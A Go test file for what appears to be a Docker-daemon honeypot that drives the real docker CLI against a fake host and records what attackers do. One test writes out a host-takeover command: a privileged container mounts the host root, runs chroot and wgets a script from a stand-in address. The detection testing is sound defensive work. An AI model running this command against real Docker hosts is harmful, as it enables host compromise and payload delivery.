package docker

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"bartizan/internal/observe"
)

// client is the real docker command line on a rig.
type client struct {
	t    *testing.T
	addr string
	home string
}

func cli(t *testing.T, r *rig) *client {
	t.Helper()
	if _, err := exec.LookPath("docker"); err != nil {
		t.Skip("the docker command line is not installed")
	}
	return &client{t: t, addr: r.Addr, home: t.TempDir()}
}

// run returns what the command printed and its exit code.
func (c *client) run(stdin string, args ...string) (stdout, stderr string, code int) {
	c.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, "docker", args...)
	cmd.Env = append(os.Environ(), "DOCKER_HOST=tcp://"+c.addr, "DOCKER_CONFIG="+c.home)
	var out, errs bytes.Buffer
	cmd.Stdin, cmd.Stdout, cmd.Stderr = strings.NewReader(stdin), &out, &errs
	err := cmd.Run()
	if ctx.Err() != nil {
		c.t.Fatalf("docker %v hangs: %s %s", args, out.String(), errs.String())
	}
	if err != nil && cmd.ProcessState == nil {
		c.t.Fatal(err)
	}
	return out.String(), errs.String(), cmd.ProcessState.ExitCode()
}

// must is run that has to work.
func (c *client) must(args ...string) string {
	c.t.Helper()
	out, errs, code := c.run("", args...)
	if code != 0 {
		c.t.Fatalf("docker %v: exit %d: %s%s", args, code, out, errs)
	}
	return out
}

func TestCommandLineLooksAround(t *testing.T) {
	r := start(t)
	c := cli(t, r)
	d := r.host.Docker
	if got := c.must("version", "--format", "{{.Server.Version}} {{.Server.APIVersion}} {{.Server.KernelVersion}} {{.Server.GoVersion}}"); got != d.Version+" "+d.APIVersion+" "+r.host.Kernel.Release+" "+d.GoVersion+"\n" {
		t.Errorf("version: %q", got)
	}
	if out := c.must("info"); !strings.Contains(out, "Server Version: "+d.Version) || !strings.Contains(out, "Name: "+r.host.Hostname) || !strings.Contains(out, r.host.Distro.PrettyName) {
		t.Errorf("info: %s", out)
	}
	ps := c.must("ps", "--no-trunc", "--format", "{{.ID}} {{.Names}} {{.Image}} {{.State}}")
	images := c.must("images", "--format", "{{.Repository}}:{{.Tag}}")
	for _, x := range r.host.Containers {
		if !strings.Contains(ps, x.ID+" "+x.Name+" "+x.Image+" running") {
			t.Errorf("ps does not show %s: %s", x.Name, ps)
		}
		if !strings.Contains(images, x.Image) {
			t.Errorf("images does not show %s: %s", x.Image, images)
		}
		if got := c.must("inspect", "--format", "{{.State.Status}} {{.Name}}", x.ID[:12]); got != "running /"+x.Name+"\n" {
			t.Errorf("inspect: %q", got)
		}
	}
	for _, args := range [][]string{{"volume", "ls"}, {"network", "ls"}, {"top", r.host.Containers[0].Name}, {"system", "df"}, {"network", "inspect", "bridge"}, {"logs", r.host.Containers[0].Name}} {
		c.must(args...)
	}
	for _, op := range []string{"GET /version", "GET /info", "GET /containers/json", "GET /images/json"} {
		r.called(op, "")
	}
}

func TestCommandLineTakesTheHost(t *testing.T) {
	r := start(t)
	c := cli(t, r)
	out, errs, code := c.run("", "run", "--rm", "--privileged", "--net=host", "-v", "/:/mnt", "alpine", "chroot", "/mnt", "sh", "-c", "id; cat /etc/hostname; wget -q http://198.51.100.9/d.sh -O /tmp/d.sh; exit 3")
	if code != 3 || !strings.Contains(out, "uid=0(root)") {
		t.Errorf("exit %d: %q %q", code, out, errs)
	}
	if !strings.Contains(errs, "Pull complete") || !strings.Contains(errs, "Status: Downloaded newer image for alpine:latest") {
		t.Errorf("pull: %s", errs)
	}
	got := r.called("POST /containers/create", "bind=/:/mnt")
	args := strings.Join(got.Call.Args, " ")
	for _, want := range []string{"image=alpine", "privileged=true", "networkmode=host", "cmd=chroot /mnt sh -c 'id;", "http://198.51.100.9/d.sh"} {
		if !strings.Contains(args, want) {
			t.Errorf("arguments lack %q: %s", want, args)
		}
	}
	if !strings.Contains(got.Call.Detail, `"Privileged":true`) || len(got.Evidence) != 1 {
		t.Errorf("detail %.200q, %d pieces of evidence", got.Call.Detail, len(got.Evidence))
	}
	r.commanded("chroot /mnt sh -c")
	r.saw("download", func(o *observe.Observation) bool {
		return o.Fetch != nil && o.Fetch.URL == "http://198.51.100.9/d.sh" && o.Fetch.Tool == "wget"
	})
	if out := c.must("ps", "-aq"); strings.Count(out, "\n") != len(r.host.Containers) {
		t.Errorf("--rm leaves something: %s", out)
	}
}
